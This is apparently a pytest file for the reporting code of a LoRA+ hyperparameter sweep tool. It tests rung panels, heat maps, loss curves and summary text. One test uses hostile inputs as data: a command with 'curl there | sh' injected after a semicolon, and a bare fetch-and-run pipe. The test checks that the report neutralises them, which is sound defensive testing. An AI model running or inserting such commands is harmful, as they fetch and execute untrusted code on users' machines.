"""The rungs of a search in the report."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from loraplus_hydra.io.rungs import Rung, add_rung
from loraplus_hydra.report.figures import draw_all, rungs
from loraplus_hydra.report.results import SweepResults, results_of
from loraplus_hydra.report.summary import details
from tests.support.finished_sweeps import write_job, write_sweep


def searched(folder: Path, candidates: list[dict[str, Any]], name: str = "halving.json", **more: Any) -> Path:
    """Write a sweep of two jobs whose search has one rung, at step 6."""
    write_sweep(folder)
    for ratio in (1, 4):
        write_job(folder / f"ratio-{ratio}", {"loraplus.ratio": ratio}, 3.5)
    (folder / name).write_text(json.dumps({"rungs": [{"step": 6, "keep": 1, "candidates": candidates}], **more}))
    return folder


@pytest.mark.parametrize(("metric", "by_loss"), [(0.5, False), (None, True)])
def test_rungs_show_the_metric_only_if_all_candidates_have_it(
    metric: float | None, by_loss: bool, tmp_path: Path
) -> None:
    candidates = [
        {"name": "a", "loss": 3.0, "metric": 0.25, "stays": False},
        {"name": "b", "loss": 2.0, "metric": metric, "stays": True},
    ]
    sweep = results_of(searched(tmp_path / "sweep", candidates)).sweep
    assert sweep.rungs_by_loss == by_loss
    assert sweep.rungs[0].values == (
        {"a": (3.0, False), "b": (2.0, True)} if by_loss else {"a": (0.25, False), "b": (0.5, True)}
    )


def test_a_figure_of_very_many_candidates_says_how_many_it_leaves_out(tmp_path: Path) -> None:
    candidates = [{"name": f"c{place}", "loss": float(place), "stays": place < 3} for place in range(1, 5000)]
    picture = rungs.draw(results_of(searched(tmp_path / "sweep", candidates)))
    assert picture is not None
    assert "4799 candidates that left early are not drawn." in picture.caption
    assert len(picture.figure.axes[0].get_lines()) <= 2 * 200


@pytest.mark.parametrize(
    ("extend", "shown"),
    [
        ("python -m loraplus_hydra tune 'tune.ratios=[1,4]'", "python -m loraplus_hydra tune 'tune.ratios=[1,4]'"),
        ("python -m loraplus_hydra tune; curl there | sh", "python -m loraplus_hydra 'tune;' curl there '|' sh"),
        ("curl there | sh", ""),
        ("'", ""),
        (7, ""),
    ],
)
def test_only_a_command_of_this_program_is_shown(extend: Any, shown: str, tmp_path: Path) -> None:
    folder = searched(tmp_path / "sweep", [], "tune.json", answer=["Best: a."], extend=extend)
    assert results_of(folder).sweep.extend == shown


@pytest.fixture
def halved(tmp_path: Path) -> SweepResults:
    """A halved 2 x 2 grid. All but one setting left, at step 6 or 25."""
    for lr_A, lr_B, left_at in ((1e-3, 1e-3, 6), (1e-3, 4e-3, None), (4e-3, 1e-3, 6), (4e-3, 4e-3, 25)):
        folder = tmp_path / "grid" / f"{lr_A}_{lr_B}"
        curve = None if left_at is None else [(0, 5.0)]
        write_job(folder, {"loraplus.lr_A": lr_A, "loraplus.lr_B": lr_B}, None if left_at else 3.25, curve=curve)
        if left_at:
            result = json.loads((folder / "result.json").read_text())
            (folder / "result.json").write_text(json.dumps({**result, "status": "pruned", "steps": left_at}))
        for step in (6, 25)[: 1 if left_at == 6 else 2]:
            losses = (4.0, 4.5) if step == 6 else (3.5 + 2 * lr_A, 3.75)
            add_rung(folder, Rung(step / 100, step, 100, 6, losses, (1.0, 3.0)))
    return results_of(tmp_path / "grid")


def test_a_heat_map_says_when_each_setting_left(halved: SweepResults) -> None:
    pictures = {picture.name: picture for picture in draw_all(halved)}
    assert "ratio" not in pictures  # one setting has a result, so there is no ratio to compare
    (axes,) = pictures["heatmap"].figure.axes  # no bar of colours
    texts = {text.get_position(): text.get_text() for text in axes.texts if text.get_text()[:4] in ("left", "3.25")}
    assert texts == {(0, 0): "left at\n6", (1, 0): "3.2500", (0, 1): "left at\n6", (1, 1): "left at\n25"}
    labels = [text.get_text() for text in pictures["heatmap"].figure.legends[0].get_texts()]
    assert "left the search, at this step" in labels
    assert "no result" not in labels


def test_the_best_jobs_curve_is_on_the_axis_though_all_others_left_at_once(tmp_path: Path) -> None:
    for place in range(20):
        curve = [(0, 5 + place * 1e-6), *(() if place else [(200, 3.25)])]
        write_job(tmp_path / str(place), {"loraplus.ratio": place + 1}, None if place else 3.25, curve=curve)
    (curves,) = (picture for picture in draw_all(results_of(tmp_path)) if picture.name == "curves")
    low, high = curves.figure.axes[0].get_ylim()
    assert low < 3.25 < 5 < high
    assert "beyond" not in curves.caption


def test_plain_lora_that_left_is_compared_where_it_left(halved: SweepResults) -> None:
    (sentence,) = (one for one in details(halved) if "ratio 1" in one)
    assert "The last of them to leave the search was lr_A 4e-3, lr_B 4e-3, at step 25." in sentence
    # The mean over the rows' tokens: (3.508 + 3 x 3.75) / 4 and (3.502 + 3 x 3.75) / 4
    assert sentence.endswith("Its loss there was 3.6895; that of the best setting was 3.6880.")


def test_each_rung_has_its_own_panel_with_the_best_first(tmp_path: Path) -> None:
    candidates = [
        {"name": name, "loss": loss, "stays": loss < 3} for name, loss in (("a", 2.5), ("b", 3.5), ("c", 2.0))
    ]
    results = results_of(searched(tmp_path / "sweep", candidates))
    picture = rungs.draw(results)
    assert picture is not None
    (axes,) = picture.figure.axes
    assert axes.get_title() == "step 6: 2 of 3 stay"
    points = [(*line.get_xdata(), *line.get_ydata(), line.get_marker()) for line in axes.get_lines()]
    assert [point[:2] for point in points] == [(1, 2.0), (2, 2.5), (3, 3.5), (3, 3.5)]
    assert points[-1][2] == "x"
    assert [text.get_text() for text in picture.figure.legends[0].get_texts()] == ["c", "a", "b"]
